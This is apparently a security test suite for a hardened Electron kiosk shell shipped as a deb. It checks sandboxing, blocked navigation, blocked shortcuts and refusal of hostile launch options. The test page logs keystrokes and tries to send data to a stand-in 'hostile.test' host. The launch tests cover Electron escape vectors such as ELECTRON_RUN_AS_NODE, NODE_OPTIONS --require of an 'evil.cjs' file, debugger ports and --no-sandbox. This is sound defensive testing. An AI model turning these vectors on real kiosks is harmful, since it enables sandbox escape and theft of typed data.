import { type ChildProcess, execFileSync } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { _electron } from 'playwright';
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest';
import type { Configuration } from '../../contract/configuration.ts';
import { commandAs, environmentFor, makeFolderFor, spawnAs, writeFileFor } from '../../tools/accounts.ts';
import { type Display, startDisplay } from '../../tools/display.ts';
import { applicationFolder } from '../../tools/dist/stage.ts';
import { operateDisplay, readScreen } from '../../tools/screen.ts';
import { runtimePaths } from '../../tools/setup/paths.mjs';
import { makeAuthority } from '../../tools/stack/certificates.ts';
import { Cleanup } from '../../tools/stack/cleanup.ts';
import { type Sites, serveSites } from '../../tools/stack/sites.ts';
import { servicesOf, writeTerminal } from '../../tools/stack/terminal.ts';
import { trustAuthority } from '../../tools/stack/trusted-authority.ts';
import { journalOf } from '../harness/kiosk.ts';
import { say } from '../harness/kiosk-window.ts';
import { inspectableLauncher, presentDeb } from './debs.ts';
import { differing, isNear, type Picture } from './pictures.ts';
import { recordWalk, type Step, settled } from './walk.ts';

// What the deb holds, with all its fuses as they ship, looked at from outside: by the keys of a keyboard, pictures of the screen, the log
// of a hostile server, and what the kernel says of its processes.

const home = 'www.mairie.test';
const hostile = 'www.hostile.test';
/** A network address of this machine that nothing else uses, so that the sites have the port that a shell in earnest asks for. */
const address = '127.77.0.1';
const waitMs = 20_000;

/** Half of it takes what is typed and tells its server which keys it heard; the other half leads to the hostile server. */
const page = `<!doctype html><html lang="fr"><title>Mairie</title>
<style>body{margin:0} textarea,a{position:fixed;top:0;bottom:0;width:50%;height:100%} a{right:0;background:#fda}</style>
<textarea autofocus></textarea><a href="https://${hostile}/link">Ailleurs</a>
<script>
  addEventListener('keydown', ({ key }) => fetch('/heard/' + encodeURIComponent(key)), true);
  navigator.sendBeacon('https://${hostile}/beacon', 'typed');
  fetch('https://${hostile}/fetch').catch(() => {});
  new Image().src = 'https://${hostile}/image';
  try { new WebSocket('wss://${hostile}/socket') } catch {}
  document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://${hostile}' }));
  fetch('/done');
</script>`;

const cleanup = new Cleanup();
let folder: string;
let application: string;
let socket: string;
let dataDirectory: string;
let display: Display;
let sites: Sites;
let walk: Step[];
let shell: ChildProcess;
let started: string;

const look = () => readScreen(display);
const keys = (...names: string[]) => operateDisplay(display, ['key', '--clearmodifiers', ...names]);
const touch = (xPx: number, yPx: number) =>
  operateDisplay(display, ['mousemove', String(xPx), String(yPx), 'click', '1']);
const seen = (path: string) => sites.requests.filter((request) => request === `${home} ${path}`).length;
const heard = () => sites.requests.flatMap((request) => request.split('/heard/').slice(1)).map(decodeURIComponent);
const until = (happens: () => void | Promise<void>) => vi.waitFor(happens, { timeout: waitMs, interval: 200 });

beforeAll(async () => {
  folder = mkdtempSync(join(runtimePaths().state, 'hardened-'));
  chmodSync(folder, 0o755);
  cleanup.add(() => rmSync(folder, { recursive: true, force: true }));
  execFileSync('dpkg-deb', ['--extract', presentDeb(), join(folder, 'root')]);
  application = join(folder, 'root', applicationFolder);

  const name = `hardened-${process.pid}`;
  const authority = await makeAuthority({ name, days: 1 });
  cleanup.add(trustAuthority(authority.certificate, name).forget);
  const certificate = await authority.issue([home, hostile]);
  const every = { [home]: { '/': page }, [hostile]: {} };
  sites = await serveSites(every, () => certificate, { address, port: 443 });
  cleanup.add(() => sites.stop());
  // Seen by these tests alone, which have a mount namespace of their own.
  const hosts = join(folder, 'hosts');
  writeFileSync(hosts, `127.0.0.1 localhost\n${address} ${home} ${hostile}\n`, { mode: 0o644 });
  execFileSync('mount', ['--bind', hosts, '/etc/hosts']);
  cleanup.add(() => void execFileSync('umount', ['/etc/hosts']));

  await startServices();
  display = await startDisplay();
  cleanup.add(() => display.stop());
  makePrograms();
  walk = await recordedWalk();
  shell = await startShell();
}, 180_000);
afterAll(() => cleanup.run());

async function startServices() {
  const sockets = mkdtempSync('/tmp/passerelle-test-');
  chmodSync(sockets, 0o755);
  cleanup.add(() => rmSync(sockets, { recursive: true, force: true }));
  const catalogue = join(folder, 'catalogue.yaml');
  const text = (fr: string) => ({ fr, en: fr, ar: fr });
  const mairie = {
    ...{ id: 'mairie', theme: 'logement', title: text('Démarche de la mairie'), summary: text('Essai') },
    ...{ entry: `https://${home}/`, hosts: [home], franceConnect: false, bring: [], needsMailbox: false },
    ...{ payment: false, sensitive: false, local: true, source: 'made for a test', checkedOn: '2026-11-22' },
  };
  const terminal = writeTerminal({
    ...{ folder, sockets, printerPort: 9 },
    server: { url: 'https://127.0.0.1:9', authority: '' },
    changes: ({ cityServer, reader, ...demo }): Configuration => ({
      ...demo,
      ...{ reader: { driver: 'none' }, printer: { driver: 'none' } },
      ...{ documentPrinter: { driver: 'none' }, scanner: { driver: 'none' } },
      procedures: { catalogues: [catalogue] },
    }),
  });
  const everything = { identity: { franceConnect: [], providers: [] }, procedures: [mairie] };
  writeFileFor('services', catalogue, JSON.stringify(everything), 0o644);
  const services = servicesOf(terminal, join(folder, 'services.log'));
  await services.start();
  cleanup.add(() => services.stop());
  ({ socket, dataDirectory } = terminal);
}

/** What the desktop would be asked to open, written down by what stands in its place. */
function makePrograms() {
  const programs = join(folder, 'programs');
  mkdirSync(programs);
  started = join(folder, 'programs', 'started');
  for (const name of ['xdg-open', 'xdg-email', 'gio', 'sensible-browser']) {
    writeFileSync(join(programs, name), `#!/bin/sh\necho "${name} $*" >> ${started}\n`, { mode: 0o755 });
  }
  makeFolderFor('interface', programs, 0o755);
}

function environment(profile: string) {
  const own = join(folder, profile);
  makeFolderFor('interface', own, 0o700);
  return {
    ...display.env,
    XDG_CONFIG_HOME: own,
    PATH: `${join(folder, 'programs')}:${environmentFor('interface').PATH}`,
  };
}

/** The way to the site, gone with Playwright in the shell that is opened up for it. */
async function recordedWalk(): Promise<Step[]> {
  const profile = join(folder, 'walk');
  makeFolderFor('interface', profile, 0o700);
  const app = await _electron.launch({
    ...{ executablePath: inspectableLauncher(), args: [`--socket=${socket}`, `--user-data-dir=${profile}`] },
    ...{ cwd: '/', env: { ...environmentFor('interface'), ...display.env } as Record<string, string> },
    chromiumSandbox: true,
  });
  const words = [
    'Français',
    ...['home.procedure.title', 'themes.names.logement'].map((key) => say('fr', key)),
    'Démarche de la mairie',
    say('fr', 'procedure.start'),
  ];
  const steps = await recordWalk(await app.firstWindow(), words, look);
  await until(() => expect(seen('/done')).toBe(1));
  await app.close();
  return steps;
}

async function startShell(): Promise<ChildProcess> {
  const program = join(application, 'passerelle-shell');
  const child = spawnAs('interface', program, [`--socket=${socket}`], {
    env: environment('shell'),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  cleanup.add(() => void child.kill('SIGKILL'));
  let said = '';
  child.stdout?.on('data', (chunk) => {
    said += chunk;
  });
  await until(() => expect(said).toContain('ready'));
  return child;
}

/** Runs the installed program with something to turn it into something else, until it ends by itself. */
async function startOtherwise(args: readonly string[], env: Record<string, string> = {}) {
  const child = spawnAs('interface', join(application, 'passerelle-shell'), args, {
    env: { ...environment(`other-${Math.random()}`), ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let said = '';
  for (const stream of [child.stdout, child.stderr])
    stream?.on('data', (chunk) => {
      said += chunk;
    });
  const [code] = await once(child, 'close');
  return { code, said };
}

function processes(): { pid: number; name: string; line: string }[] {
  const children = new Map<number, number[]>();
  for (const pid of readdirSync('/proc').map(Number).filter(Boolean)) {
    const parent = Number(/^PPid:\s+(\d+)$/m.exec(readIfThere(`/proc/${pid}/status`))?.[1]);
    children.set(parent, [...(children.get(parent) ?? []), pid]);
  }
  const below = (pid: number): number[] => [pid, ...(children.get(pid) ?? []).flatMap(below)];
  return below(shell.pid ?? 0).map((pid) => ({
    pid,
    name: readIfThere(`/proc/${pid}/comm`).trim(),
    line: readIfThere(`/proc/${pid}/cmdline`).replaceAll('\0', ' '),
  }));
}

function readIfThere(path: string): string {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return ''; // it has ended meanwhile
  }
}

function windows(): string[] {
  const [command, args] = commandAs('interface', 'xwininfo', ['-root', '-tree']);
  const tree = execFileSync(command, args, {
    encoding: 'utf8',
    cwd: '/',
    env: { ...environmentFor('interface'), ...display.env },
  });
  return [...tree.matchAll(/^\s+0x\w+ "([^"]+)": .*\s(\d{3,})x(\d{3,})\+/gm)].map(([, title = '']) => title);
}

let site: Picture;
let ownWindows: number;

test('the screens are those of the shell that was looked into, and the same touches lead to the site', async () => {
  const before = seen('/done');
  ownWindows = windows().length;
  for (const { picture, xPx, yPx } of walk) {
    await until(async () => expect(differing(await look(), picture)).toBeLessThan(0.01));
    await settled(look);
    await touch(xPx, yPx);
  }
  await until(() => expect(seen('/done')).toBe(before + 1));
  site = await settled(look);
  expect(windows()).toHaveLength(ownWindows);
});

test('no process is without the sandbox, and none of them runs as root or may become it', () => {
  const all = processes();
  const renderers = all.filter(({ line }) => line.includes('--type=renderer'));
  expect(renderers.length).toBeGreaterThan(1);
  for (const { pid } of renderers) expect(readFileSync(`/proc/${pid}/status`, 'utf8')).toMatch(/^Seccomp:\s+2$/m);
  for (const { pid, line } of all) {
    const status = readIfThere(`/proc/${pid}/status`);
    expect(status, line).not.toMatch(/^Uid:.*\b0\b/m);
    expect(line).not.toContain('--no-sandbox');
  }
});

test('what the page asked of the hostile server, and of other programs, reached neither', () => {
  expect(sites.connections.filter((host) => host === hostile)).toEqual([]);
  expect(sites.requests.filter((request) => request.startsWith(hostile))).toEqual([]);
  expect(existsSync(started)).toBe(false);
});

test('keys of browser, developers and desktop reach nobody and change nothing', async () => {
  const before = seen('/');
  await touch(300, 400);
  site = await settled(look);
  await keys(
    'ctrl+shift+i',
    'ctrl+shift+j',
    'F12',
    'F11',
    'F5',
    'ctrl+r',
    'ctrl+shift+r',
    'ctrl+w',
    'ctrl+q',
    'ctrl+n',
  );
  await keys(
    'ctrl+t',
    'ctrl+o',
    'ctrl+s',
    'ctrl+p',
    'ctrl+u',
    'ctrl+h',
    'ctrl+plus',
    'alt+Left',
    'alt+F4',
    'F7',
    'super',
  );
  await keys(
    'alt+Tab',
    'Menu',
    'alt+space',
    'ctrl+alt+t',
    'ctrl+alt+Delete',
    'ctrl+alt+F2',
    'ctrl+alt+BackSpace',
    'Escape',
  );
  await keys('z');
  await until(() => expect(heard()).toContain('z'));
  expect(heard().filter((key) => !['z', 'Control', 'Shift', 'Escape'].includes(key))).toEqual([]);
  await keys('BackSpace');
  await until(() => expect(heard()).toContain('Backspace'));
  await until(async () => expect(differing(await look(), site)).toBeLessThan(0.005));
  expect(seen('/')).toBe(before);
  expect(windows()).toHaveLength(ownWindows);
  expect(shell.exitCode).toBeNull();
});

test('a link to the hostile server is blocked in words, and the server never hears of it', async () => {
  await touch(1500, 400);
  await until(async () => expect(isNear(await look(), site, 0.02)).toBe(false));
  await until(() =>
    expect(journalOf(dataDirectory)).toContainEqual(
      expect.objectContaining({ event: 'navigation-blocked', fields: { reason: 'host-not-listed' } }),
    ),
  );
  expect(sites.connections.filter((host) => host === hostile)).toEqual([]);
});

test('a second shell, with an address or without, leaves the first alone', async () => {
  const profile = environment('shell');
  const second = (...args: string[]) => startOtherwise([`--socket=${socket}`, ...args], profile);
  expect(await second()).toMatchObject({ code: 3 });
  expect(await second(`https://${hostile}/second`)).toMatchObject({ code: 2 });
  expect(sites.connections.filter((host) => host === hostile)).toEqual([]);
  expect(windows()).toHaveLength(ownWindows);
});

for (const [what, args, env] of [
  ['as a plain Node', ['-p', '"opened".toUpperCase()'], { ELECTRON_RUN_AS_NODE: '1' }],
  ['with options of Node', [], { NODE_OPTIONS: '--require=%evil%' }],
  ['under a debugger of Node', ['--inspect=127.0.0.1:9339'], {}],
  ['waiting for a debugger', ['--inspect-brk=127.0.0.1:9339'], {}],
  ['under a debugger of Chromium', ['--remote-debugging-port=9339'], {}],
  ['without the sandbox', ['--no-sandbox'], {}],
  ['through another proxy', ['--proxy-server=https://www.hostile.test'], {}],
  ['with another application', ['%folder%'], {}],
] as const)
  test(`started ${what}, it ends and has run nothing of it`, async () => {
    const evil = join(folder, 'evil.cjs');
    writeFileSync(evil, "require('node:fs').writeFileSync(process.env.HOME + '/OPENED', ''); console.log('OPENED');");
    writeFileSync(join(folder, 'package.json'), '{"name":"evil","main":"evil.cjs"}');
    const fill = (value: string) => value.replace('%evil%', evil).replace('%folder%', folder);
    const { code, said } = await startOtherwise(
      args.map(fill),
      Object.fromEntries(Object.entries(env).map(([name, value]) => [name, fill(value)])),
    );
    expect(code, said).toBe(2);
    expect(said).toMatch(/Usage: --socket=PATH|sandbox is switched off/);
    expect(said).not.toMatch(/OPENED|listening on/i);
    expect(existsSync(join(environmentFor('interface').HOME ?? '', 'OPENED'))).toBe(false);
    expect(sites.connections.filter((host) => host === hostile)).toEqual([]);
  });

test('an application beside the archive is not looked at', async () => {
  const copy = join(folder, 'copy');
  cpSync(application, copy, { recursive: true });
  onTestFinished(() => rmSync(copy, { recursive: true, force: true }));
  mkdirSync(join(copy, 'resources', 'app'));
  writeFileSync(join(copy, 'resources', 'app', 'package.json'), '{"name":"evil","main":"evil.cjs"}');
  writeFileSync(join(copy, 'resources', 'app', 'evil.cjs'), "console.log('OPENED'); process.exit(0);");
  const ours = application;
  application = copy;
  onTestFinished(() => {
    application = ours;
  });
  const { code, said } = await startOtherwise([]);
  expect({ code, opened: said.includes('OPENED') }).toEqual({ code: 2, opened: false });
});

test('a signal for its debugger ends it, and opens none', async () => {
  const ended = once(shell, 'exit');
  shell.kill('SIGUSR1');
  expect(await ended).toEqual([null, 'SIGUSR1']);
  expect(await listens(9229)).toBe(false);
});

function listens(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const link = connect(port, '127.0.0.1', () => {
      link.destroy();
      resolve(true);
    });
    link.on('error', () => resolve(false));
  });
}
